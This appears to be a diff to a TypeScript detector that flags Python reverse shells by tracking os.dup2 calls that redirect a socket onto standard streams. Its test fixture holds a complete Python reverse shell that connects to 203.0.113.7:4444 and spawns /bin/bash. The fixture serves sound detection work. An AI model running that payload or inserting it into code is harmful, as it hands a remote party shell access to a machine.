@@ -13,8 +13,16 @@ function report(place: FunctionView | ModuleView) {
     const path = place.resolve(call.func);
     if (path === 'os.dup2') {
       const [source, target] = call.args;
-      if (source && /\.fileno\(\)/.test(place.sourceOf(source)) && target?.kind === 'Num')
-        duplicated.add(target.value);
+      if (source && /\.fileno\(\)/.test(place.sourceOf(source))) {
+        if (target?.kind === 'Num') duplicated.add(target.value);
+        // `for f in (0, 1, 2): os.dup2(s.fileno(), f)`
+        else if (
+          /\(\s*0\s*,\s*1\s*,\s*2\s*\)|\[\s*0\s*,\s*1\s*,\s*2\s*\]|range\(3\)/.test(
+            place.sourceOf(place.node),
+          )
+        )
+          for (const standard of [0, 1]) duplicated.add(standard);
+      }
       first ??= call;
     }
     if (
@@ -75,8 +83,6 @@ import os, pty, socket
 s = socket.socket()
 s.connect(('203.0.113.7', 4444))
 [os.dup2(s.fileno(), f) for f in (0, 1, 2)]
-os.dup2(s.fileno(), 0)
-os.dup2(s.fileno(), 1)
 pty.spawn('/bin/bash')  # report
 `,
       },
